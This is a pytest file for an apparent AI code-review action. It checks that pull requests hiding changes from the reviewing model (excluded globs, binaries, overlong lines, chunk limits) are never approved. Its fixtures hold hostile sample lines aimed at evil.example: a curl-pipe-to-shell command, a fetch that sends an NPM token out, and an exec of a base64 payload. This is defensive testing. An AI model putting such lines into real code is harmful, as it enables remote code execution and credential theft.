"""Verdict integrity (issue 10), end to end through ``relay-review run``: the issue's hostile
pull request runs it as a subprocess, as the runner starts it; every other case runs the
action's entrypoint in this process (``action_harness.run_in_process``) over the same
environment, Prism and fleet (the decision is computed in the pipeline, not by the process).

The invariant: the decision is ``approve`` only if every changed line of every changed file was
shown to a model whose reply was accepted, and no finding about shown changed code was dropped.
A hostile author chooses file names, file types and line lengths: every way of keeping a change
from the model (an exclude glob, a binary, no patch, a line too long, the chunk limit) is tried
against a model that approves whatever it is shown, and must give ``comment`` with the file
named, and why, at the top of the comment.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from action_harness import (
    FLEET_KEY,
    api_file,
    policy_toml,
    posted_bodies,
    run_action,
    run_in_process,
)
from github_mock import MockGitHub
from relay_review.drill import FaultFleet

README = api_file("README.md", "modified", "@@ -1 +1 @@\n-# Helo\n+# Hello", 1, 1)
GENERATED = api_file(
    "app/auth.generated.py",
    "added",
    "@@ -0,0 +1,2 @@\n+import os\n+os.system('curl https://evil.example/x | sh')",
    2,
    0,
)
DIST = api_file(
    "dist/index.js",
    "added",
    "@@ -0,0 +1 @@\n+fetch('https://evil.example/?t=' + process.env.NPM_TOKEN)",
    1,
    0,
)
BINARY = api_file("lib/_speedups.so", "added", None, 0, 0)
NO_PATCH = api_file("app/huge.py", "modified", None, 4000, 12)
RENAMED = {**api_file("docs/new.md", "renamed", None, 0, 0), "previous_filename": "docs/old.md"}
#: A 24,000-character line: base64 of a payload, executed.
BLOB = "A" * 23_960
EXEC_LINE = f"exec(__import__('base64').b64decode('{BLOB}'))"
LONG = api_file("app/boot.py", "added", f"@@ -0,0 +1,2 @@\n+import sys\n+{EXEC_LINE}", 2, 0)
#: What a model writes when it cites the long line: abbreviated, as models do.
ABBREVIATED = "exec(__import__('base64').b64decode('AAAAAAAAAAAAAAAAAAAAAAAA…'))"
MISPLACED_PATCH = "@@ -1,0 +1,3 @@\n+import os\n+x = 1\n+os.system(user_input)"
MISPLACED = api_file("app/run.py", "added", MISPLACED_PATCH, 3, 0)


def eager_reply(body: dict[str, Any]) -> str:
    """A model that approves what it is shown, except for the code it can see is bad."""
    messages = body["messages"]
    if "single word: ready" in messages[-1]["content"]:
        return "ready"
    shown = "\n".join(m["content"] for m in messages)  # the repair round sees the chunk too
    findings = []
    if "R 2 + exec(__import__('base64')" in shown:
        findings.append(
            {
                "path": "app/boot.py",
                "line": 2,
                "side": "RIGHT",
                "quote": ABBREVIATED,
                "severity": "high",
                "message": "Executes an obfuscated base64 payload.",
            }
        )
    if "R 3 + os.system(user_input)" in shown:  # the right quote, on the wrong line
        findings.append(
            {
                "path": "app/run.py",
                "line": 2,
                "side": "RIGHT",
                "quote": "os.system(user_input)",
                "severity": "high",
                "message": "Command injection.",
            }
        )
    return json.dumps({"summary": "Looks good.", "decision": "approve", "findings": findings})


@pytest.fixture(scope="module")
def eager() -> Iterator[FaultFleet]:
    accounts = {"eager": {"models": {"eager/reviewer": "healthy"}, "api_key": FLEET_KEY}}
    with FaultFleet(accounts, reply=eager_reply) as running:
        yield running


def review(
    root: Path,
    mock: MockGitHub,
    fleet: FaultFleet,
    files: list[dict[str, Any]],
    policy: str = "",
    *,
    subprocess: bool = False,
) -> tuple[str, str, dict[str, Any]]:
    """(decision output, the posted comment, the JSON report) of one run over ``files``
    (``subprocess``: ``relay-review run`` as a process, else the entrypoint in this one)."""
    mock.reset()
    inputs = {"policy": policy_toml(fleet, "eager") + policy, "fail-on": "high"}
    run = (run_action if subprocess else run_in_process)(root, mock, inputs, files=files)
    assert run.code in (0, 1), run.stdout + run.stderr
    assert "Traceback" not in run.stderr, run.stderr
    bodies = posted_bodies(mock)
    assert len(bodies) == 1 and run.report is not None
    return run.outputs["decision"], bodies[0], run.report


def top_note(comment: str) -> str:
    """The comment's opening 'Partial review' note (empty when there is none)."""
    match = re.search(r"^> \*\*Partial review:\*\*.*?(?=\n\n)", comment, re.MULTILINE | re.DOTALL)
    return match[0] if match else ""


def test_the_issue_s_hostile_pull_request_is_not_approved(
    tmp_path: Path, github_mock: MockGitHub, eager: FaultFleet
) -> None:
    decision, comment, report = review(
        tmp_path, github_mock, eager, [README, GENERATED, DIST], subprocess=True
    )
    assert decision == "comment" and report["findings"] == []
    note = top_note(comment)
    assert "2 of 3 files change content no model was shown" in note
    assert "a partial review never approves" in note
    assert "`app/auth.generated.py`: excluded by a default pattern '\\*.generated.\\*'" in note
    assert "`dist/index.js`: excluded by a default pattern 'dist/\\*\\*'" in note


# Each way a change can escape the model, next to a file that was reviewed: never approve.
ESCAPES = {
    "excluded by a default glob": ([GENERATED], "", "excluded by a default pattern"),
    "excluded by the policy": (
        [api_file("app/x.py", "added", "@@ -0,0 +1 @@\n+x = 1", 1, 0)],
        '[review]\nexclude = ["app/x.py"]\n',
        "excluded by the policy's pattern 'app/x.py'",
    ),
    "binary": ([BINARY], "", "no patch from the API (binary or too large)"),
    "no patch": ([NO_PATCH], "", "no patch from the API (binary or too large)"),
    "line too long": ([LONG], "", "line too long: line 2 (RIGHT) has 24,000 characters"),
    "beyond limits": (
        [api_file("app/y.py", "added", "@@ -0,0 +1,80 @@" + "\n+y = 2" * 80, 80, 0)],
        "[review]\nchunk_tokens = 256\nmax_chunks = 1\n",
        "beyond limits: the diff needs more than 1 chunks",
    ),
}


@pytest.mark.parametrize("escape", list(ESCAPES))
def test_a_change_no_model_saw_never_approves(
    escape: str, tmp_path: Path, github_mock: MockGitHub, eager: FaultFleet
) -> None:
    files, policy, reason = ESCAPES[escape]
    decision, comment, report = review(tmp_path, github_mock, eager, [README, *files], policy)
    assert decision == "comment", (escape, report["partial"])
    assert "a partial review never approves" in report["partial"]
    left_out = [f for f in report["files"] if f["left_out"]]
    assert [f["path"] for f in left_out] == [files[0]["filename"]]
    assert reason in left_out[0]["reason"]
    assert files[0]["filename"].split("/")[-1].split(".")[0] in top_note(comment)


def test_a_fully_shown_diff_approves_and_a_pure_rename_counts_as_shown(
    tmp_path: Path, github_mock: MockGitHub, eager: FaultFleet
) -> None:
    decision, comment, report = review(tmp_path, github_mock, eager, [README, RENAMED])
    assert decision == "approve" and report["partial"] == "" and top_note(comment) == ""


def test_trusted_excludes_opt_in_restores_approve(
    tmp_path: Path, github_mock: MockGitHub, eager: FaultFleet
) -> None:
    policy = '[review]\ntrusted_excludes = ["*.generated.*", "dist/**"]\n'
    decision, comment, report = review(
        tmp_path, github_mock, eager, [README, GENERATED, DIST], policy
    )
    assert decision == "approve", report["partial"]
    assert top_note(comment) == ""
    assert all("trusted by review.trusted_excludes" in f["reason"] for f in report["files"][1:])
    # a binary is no exclusion: trusting globs does not vouch for it
    decision, _, _ = review(tmp_path / "b", github_mock, eager, [README, BINARY], policy)
    assert decision == "comment"


def test_a_long_line_shown_to_the_model_is_citable_by_an_abbreviated_quote(
    tmp_path: Path, github_mock: MockGitHub, eager: FaultFleet
) -> None:
    policy = "[review]\nmax_line_chars = 50000\n"
    decision, _comment, report = review(tmp_path, github_mock, eager, [README, LONG], policy)
    assert decision == "request_changes", report["unverified"]
    (finding,) = report["findings"]
    assert (finding["path"], finding["line"], finding["quote"]) == ("app/boot.py", 2, ABBREVIATED)


def test_a_dropped_finding_about_shown_code_never_approves(
    tmp_path: Path, github_mock: MockGitHub, eager: FaultFleet
) -> None:
    decision, comment, report = review(tmp_path, github_mock, eager, [README, MISPLACED])
    assert report["findings"] == [] and len(report["unverified"]) == 1
    assert decision == "comment"
    assert "1 finding on changed lines could not be verified" in top_note(comment)
